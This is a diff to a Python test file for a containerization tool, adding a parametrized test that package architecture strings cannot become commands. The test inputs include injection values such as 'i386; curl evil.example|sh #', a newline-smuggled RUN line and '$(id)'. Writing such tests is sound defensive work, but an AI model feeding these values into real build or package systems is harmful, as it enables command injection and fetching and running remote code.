@@ -5,6 +5,8 @@ from __future__ import annotations
 import time
 from dataclasses import replace
 
+import pytest
+
 from assess.facts import HostFacts
 from assess.workloads import find_workloads
 from containerize.closure.gathering import Gathering
@@ -183,3 +185,10 @@ def test_on_a_recorded_host_the_server_is_named_and_no_library() -> None:
 
     assert "mariadb-server-core" in {each.name for each in found}
     assert "libc6" not in {each.name for each in found}
+
+
+@pytest.mark.parametrize("architecture", ["i386; curl evil.example|sh #", "i386\nRUN id", "$(id)", "i386 x", "-"])
+def test_no_architecture_of_a_host_is_a_command(architecture: str) -> None:
+    """It comes from the host's database of packages, and stands on a line that is run with a network."""
+    package = ChosenPackage("libssl3", "3.0.1-1", "x", architecture)
+    assert argument(package, "apt") == ""
